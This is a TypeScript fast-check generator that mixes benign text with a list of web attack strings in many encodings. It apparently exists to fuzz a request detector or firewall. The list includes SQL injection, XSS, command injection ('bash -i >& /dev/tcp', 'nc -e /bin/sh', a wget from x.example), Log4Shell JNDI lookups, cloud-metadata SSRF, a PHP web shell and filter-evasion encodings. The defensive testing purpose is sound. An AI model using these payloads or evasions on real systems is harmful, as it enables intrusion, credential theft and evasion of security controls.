// Requests and answers made of everyday text and of soup from the kitchens of attackers, in every place where a client
// can put something, each piece in one of many disguises.
import fc from 'fast-check';
import type { Sent } from './support.ts';

const BENIGN = [
  ...['hello world', 'Zürich', "14 St. Mary's Road", '2026-11-21', 'anna.keller@example.com', '129.90', 'on', 'true'],
  ...[
    'https://www.example.com/articles?id=7#top',
    'select a chair and order by phone',
    '{"a":[1,2]}',
    'C:\\Users\\anna',
  ],
  ...[
    'd41d8cd98f00b204e9800998ecf8427e',
    'eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiIxIn0.c2ln',
    'W/"1f4c-5d1e"',
    '12:30',
    'naïve café',
  ],
];

const SOUP = [
  ...["' or '1'='1", '1 union select null,version()--', "'; drop table users;#", 'sleep(5)', "admin'/*", '0x41424344'],
  ...[
    '1 and 1=(select count(*) from information_schema.tables)',
    "' || (select 1) || '",
    'benchmark(100000,md5(1))',
    '@@version',
  ],
  ...[
    '<script>alert(1)</script>',
    '<img src=x onerror=alert(1)>',
    'javascript:alert(document.cookie)',
    '<svg/onload=1>',
  ],
  ...[
    '"><iframe src=//x.example>',
    'style=expression(1)',
    'vbscript:msgbox',
    '<!--#exec cmd="ls"-->',
    '{{7*7}}',
    '${7*7}',
  ],
  ...[
    '; cat /etc/passwd',
    '| ls -la',
    '$(id)',
    '`wget http://x.example/a`',
    '&& ping -c 1 x.example',
    'bash -i >& /dev/tcp/1/2',
  ],
  ...[
    'cmd.exe /c dir',
    'powershell -enc SQBFAFgA',
    '/bin/sh',
    'nc -e /bin/sh',
    'c^a^t',
    "c'a't /e'tc'/pas*wd",
    'who$@ami',
  ],
  ...[
    '../../../../etc/passwd',
    '..\\..\\boot.ini',
    '/proc/self/environ',
    '.htaccess',
    'file:///etc/shadow',
    '/.git/config',
  ],
  ...[
    'http://127.0.0.1/',
    'http://169.254.169.254/latest/meta-data/',
    'ftp://x.example/shell.php?',
    'gopher://x',
    'php://input',
  ],
  ...[
    '<?php system($_GET[1]); ?>',
    '$_POST[',
    'base64_decode(',
    'O:4:"User":1:{',
    'eval(',
    'phpinfo()',
    'auto_prepend_file=',
  ],
  ...[
    'java.lang.Runtime',
    'rO0ABXNy',
    '${jndi:ldap://x.example/a}',
    'com.opensymphony.xwork2',
    'class.module.classLoader',
    '#_memberAccess',
  ],
  ...[
    'require("child_process")',
    '__proto__',
    'constructor.prototype',
    'process.env',
    '_$$ND_FUNC$$_',
    'new Function(',
  ],
  ...[
    'PHPSESSID=1',
    'document.cookie',
    '\r\nSet-Cookie: a=b',
    '\nContent-Type: text/html\r\n\r\n',
    '%0d%0aLocation:',
    '{"$ne":1}',
  ],
  ...[
    'sqlmap/1.4',
    'Nikto',
    'nessus',
    'masscan',
    'HTTP/1.1\r\nHost: x',
    '*)(uid=*',
    'ognl',
    '(){ :;}; echo',
    '<%= 7 %>',
  ],
  ...[
    'SQLSTATE[42000]',
    'ORA-01756',
    'You have an error in your SQL syntax',
    'java.lang.NullPointerException',
    'Index of /',
  ],
  ...[
    '<b>Warning</b>: include()',
    'r57shell',
    'Microsoft OLE DB Provider',
    'The resource cannot be found.',
    'total 24\ndrwxr',
  ],
];

const one = <T>(choices: readonly T[]): fc.Arbitrary<T> => fc.constantFrom(...choices);
const latin = (text: string): string => Buffer.from(text, 'utf8').toString('latin1');
const hex = (byte: string): string => byte.charCodeAt(0).toString(16).padStart(2, '0');
const each = (make: (byte: string) => string) => (text: string) => text.replace(/[\s\S]/g, make);

/** What a piece may be dressed in. */
export const DISGUISES: readonly ((text: string) => string)[] = [
  ...Array.from({ length: 6 }, () => (text: string) => text),
  (text) => text.toUpperCase(),
  each((byte) => (byte.charCodeAt(0) % 2 === 0 ? byte.toUpperCase() : byte)),
  each((byte) => `%${hex(byte)}`),
  each((byte) => `%25${hex(byte)}`),
  each((byte) => `%u00${hex(byte)}`),
  each((byte) => `%U00${hex(byte).toUpperCase()}`),
  each((byte) => `&#${byte.charCodeAt(0)};`),
  each((byte) => `&#X${hex(byte)}`),
  each((byte) => `\\x${hex(byte)}`),
  each((byte) => `\\u00${hex(byte)}`),
  each((byte) => `\\${byte}`),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&GT;').replaceAll('"', '&quot;'),
  (text) => Buffer.from(text, 'latin1').toString('base64'),
  (text) => Buffer.from(text, 'latin1').toString('base64url'),
  (text) => Buffer.from(text, 'latin1').toString('hex'),
  (text) => text.replaceAll(' ', '/**/'),
  (text) => text.replaceAll(' ', '\t\n\v\xa0'),
  (text) => text.replaceAll(' ', '+'),
  (text) => [...text].join('\0'),
  (text) => [...text].join('\\'),
  (text) => text.replace(/[a-z]/g, (letter) => String.fromCharCode(0xef, 0xbd, 0x20 + letter.charCodeAt(0))),
  (text) => `${text.slice(0, text.length / 2)}"^'${text.slice(text.length / 2)}`,
  (text) => text.repeat(12),
];

const piece = fc
  .tuple(fc.oneof({ arbitrary: one(BENIGN), weight: 2 }, { arbitrary: one(SOUP), weight: 3 }), one(DISGUISES))
  .map(([text, disguise]) => disguise(latin(text)));
const bytes = fc.uint8Array({ maxLength: 60 }).map((all) => Buffer.from(all).toString('latin1'));

/** Text of a client: mostly one or two pieces, sometimes bytes of any kind. */
const value: fc.Arbitrary<string> = fc.oneof(
  { arbitrary: one(BENIGN).map(latin), weight: 3 },
  { arbitrary: piece, weight: 5 },
  { arbitrary: fc.array(piece, { minLength: 2, maxLength: 4 }).map((all) => all.join(' ')), weight: 2 },
  { arbitrary: bytes, weight: 1 },
);
const name = fc.oneof(
  {
    arbitrary: one(['id', 'q', 'page', 'user.name', 'x_y', 'ID', 'redirect_to', 'items[0]', 'pass', 'file', '']),
    weight: 8,
  },
  { arbitrary: piece, weight: 1 },
);
const pairs = fc.array(fc.tuple(name, value), { maxLength: 4 });

/** Only what would end the value is escaped: the rest of a disguise goes on the line as it is. */
const sparing = each((byte) => (/[&=+# ]|[^\x21-\x7e]/.test(byte) ? `%${hex(byte)}` : byte));
const careful = each((byte) => (/[A-Za-z0-9._-]/.test(byte) ? byte : `%${hex(byte)}`));
const query = fc
  .tuple(pairs, fc.boolean())
  .map(([all, isSparing]) => all.map((pair) => pair.map(isSparing ? sparing : careful).join('=')).join('&'));

const oneLine = (text: string): string => text.replace(/[\r\n\0]/g, ' ').trim();

const jsonBody = pairs.map((all) => {
  const [first, ...rest] = all.map(([key, raw]) => [key, raw] as const);
  return JSON.stringify({
    ...Object.fromEntries(rest),
    list: [1, null, true, { [first?.[0] ?? 'a']: first?.[1] ?? '' }],
  });
});
const xmlText = (text: string): string => text.replace(/[<&>"\0-\x08\x0b-\x1f]/g, (byte) => `&#x${hex(byte)};`);
const xmlBody = pairs.map(
  (all) =>
    `<?xml version="1.0"?><r>${all.map(([, raw], i) => `<e a${i}="${xmlText(raw)}">${xmlText(raw)}</e>`).join('')}</r>`,
);
const multipartBody = fc.array(fc.tuple(name, value, fc.option(value), fc.boolean()), { maxLength: 3 }).map((parts) => {
  const quoted = (text: string): string => oneLine(text).replace(/["\\]/g, '\\$&');
  const written = parts.map(([key, raw, file, hasType]) => {
    const fileName = file === null ? '' : `; filename="${quoted(file)}"`;
    const type = hasType ? `Content-Type: ${oneLine(raw).slice(0, 30)}\r\n` : '';
    return `--BoUnd\r\nContent-Disposition: form-data; name="${quoted(key)}"${fileName}\r\n${type}\r\n${raw}\r\n`;
  });
  return `${written.join('')}--BoUnd--\r\n`;
});

const body: fc.Arbitrary<readonly [type: string, text: string]> = fc.oneof(
  { arbitrary: fc.constant(['', ''] as const), weight: 3 },
  { arbitrary: query.map((text) => ['application/x-www-form-urlencoded', text] as const), weight: 3 },
  { arbitrary: jsonBody.map((text) => ['application/json', latin(text)] as const), weight: 2 },
  { arbitrary: xmlBody.map((text) => ['text/xml; charset=utf-8', text] as const), weight: 2 },
  { arbitrary: multipartBody.map((text) => ['multipart/form-data; boundary=BoUnd', text] as const), weight: 2 },
  { arbitrary: fc.tuple(one(['application/json', 'text/xml', 'text/plain', 'multipart/form-data']), value), weight: 1 },
);

const header = fc.tuple(
  one([
    'user-agent',
    'referer',
    'accept',
    'accept-language',
    'x-forwarded-for',
    'authorization',
    'range',
    'x.y',
    'x_z',
    'content-length',
    'transfer-encoding',
    'accept-encoding',
    'x-file-name',
  ]),
  value,
);

/** An exchange as a browser or an attacker would have it. */
export const anyExchange: fc.Arbitrary<Sent> = fc
  .record({
    method: one(['GET', 'GET', 'POST', 'POST', 'PUT', 'HEAD', 'TRACE', 'x']),
    path: one([
      '/',
      '/index.php',
      '/a/b.html',
      '/.git/config',
      '/shop/..%2f..%2fetc/passwd',
      '/x%00y',
      '/%ff',
      '/wp-login.php',
    ]),
    protocol: one(['HTTP/1.1', 'HTTP/1.1', 'HTTP/2.0', 'HTTP/1.0', 'HTTP/0.9']),
    host: one(['app.example.com', '127.0.0.1', '']),
    query,
    body,
    cookies: pairs,
    headers: fc.array(header, { maxLength: 5 }),
    status: one([200, 200, 404, 500]),
    page: value,
  })
  .map(({ method, path, protocol, host, query: asked, body: [type, text], cookies, headers, status, page }) => ({
    method,
    target: path + (asked === '' ? '' : `?${asked}`),
    protocol,
    headers: [
      ...(host === '' ? [] : ['host', host]),
      ...headers.flatMap(([key, raw]) => [key, oneLine(raw)]),
      ...(cookies.length === 0
        ? []
        : ['cookie', oneLine(cookies.map(([key, raw]) => `${key}=${raw.replaceAll(';', ',')}`).join('; '))]),
      ...(type === '' ? [] : ['content-type', type, 'content-length', String(text.length)]),
    ],
    body: text,
    response: {
      status,
      headers: ['content-type', 'text/html; charset=utf-8', 'x-powered-by', oneLine(page)],
      body: page,
    },
  }));
